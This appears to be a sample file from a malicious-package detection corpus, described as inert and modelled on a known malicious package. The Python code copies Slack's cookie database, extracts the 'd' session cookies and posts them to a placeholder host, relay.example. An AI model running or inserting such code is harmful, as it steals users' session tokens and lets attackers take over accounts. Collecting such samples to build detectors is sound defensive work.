# pkgguard corpus 424 (discord-token), modelled on [discordpydebug]; inert, never run.
import os
import shutil
import sqlite3
import tempfile
import urllib.request

src = os.path.join(os.path.expanduser("~"), ".config", "Slack", "Cookies")
copy = os.path.join(tempfile.gettempdir(), "sc.db")
shutil.copy2(src, copy)
rows = sqlite3.connect(copy).execute("SELECT host_key, name, encrypted_value FROM cookies WHERE name = 'd'").fetchall()
payload = "\n".join(f"{h}\t{n}\t{v.hex()}" for h, n, v in rows).encode()
urllib.request.urlopen(urllib.request.Request("https://relay.example/s", data=payload, method="POST"), timeout=10)
